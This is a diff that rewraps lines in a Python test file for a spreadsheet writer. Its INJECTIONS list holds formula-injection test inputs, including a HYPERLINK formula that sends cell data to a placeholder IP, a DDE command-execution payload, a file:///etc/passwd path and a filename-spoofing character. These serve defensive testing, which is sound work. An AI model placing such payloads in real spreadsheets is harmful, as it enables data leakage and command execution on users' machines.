@@ -1,4 +1,6 @@
-"""The one door to the writer: text stays text, a file is written whole or not at all, nothing is lost in silence."""
+"""The one door to the writer: text stays text, a file is written whole or not at all, nothing is
+lost in silence.
+"""
 
 from __future__ import annotations
 
@@ -33,13 +35,17 @@ from sheettools.outgoing.workbook.write import (
 )
 
 INJECTIONS = (
-    "=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://192.0.2.1/?"&A1,"Bấm")', "=cmd|' /C calc'!A0", " =1+1",
-    "+1+1", "+84 912", "-1+1", "- gạch đầu dòng", "@SUM(1)", "@tên", "\t=1+1", "\tTAB", "\r=1+1", "\n=1+1",
-    "＝1+1", "＋1", "－1", "＠a", "\u200b=1+1", "\u00a0=1+1", "'=1+1", '"=1+1"', "{=1+1}", "%0A=1+1",
+    "=1+1", "=SUM(A1:A9)", '=HYPERLINK("http://192.0.2.1/?"&A1,"Bấm")', "=cmd|' /C calc'!A0",
+    " =1+1",
+    "+1+1", "+84 912", "-1+1", "- gạch đầu dòng", "@SUM(1)", "@tên", "\t=1+1", "\tTAB", "\r=1+1",
+    "\n=1+1",
+    "＝1+1", "＋1", "－1", "＠a", "\u200b=1+1", "\u00a0=1+1", "'=1+1", '"=1+1"', "{=1+1}",
+    "%0A=1+1",
     "internal:'Lịch'!A1", "external:c:\\a.xlsx", "file:///etc/passwd", "http://192.0.2.1/a?b=c&d", "https://192.0.2.1",
     "ftp://192.0.2.1", "mailto:a@example.org", "\\\\192.0.2.1\\a", "http://192.0.2.1/" + "a" * 2100,
     "#N/A", "#REF!", "#VALUE!", "#DIV/0!", "TRUE", "FALSE", "0012", "1e5", "1E400", "nan", "inf", "NULL", "15/3/2024",
-    "<f>1+1</f>", "]]>", "&amp;", "<script>alert(1)</script>", "_x0007_", "_x0041_", "\u202egpj.exe",
+    "<f>1+1</f>", "]]>", "&amp;", "<script>alert(1)</script>", "_x0007_", "_x0041_",
+    "\u202egpj.exe",
 )  # fmt: skip
 
 
@@ -155,7 +161,8 @@ def test_text_that_excel_would_cut_is_refused(tmp_path: Path, value: str) -> Non
     refused(tmp_path / "a.xlsx", lambda page: page.put(1, 1, value))
 
 
-ODD = {"nan": math.nan, "inf": math.inf, "-inf": -math.inf, "huge": 10**400, "too exact": 2**53 + 1, "bytes": b"a",
+ODD = {"nan": math.nan, "inf": math.inf, "-inf": -math.inf, "huge": 10**400,
+"too exact": 2**53 + 1, "bytes": b"a",
        "complex": 1j, "list": [1]}  # fmt: skip
 
 
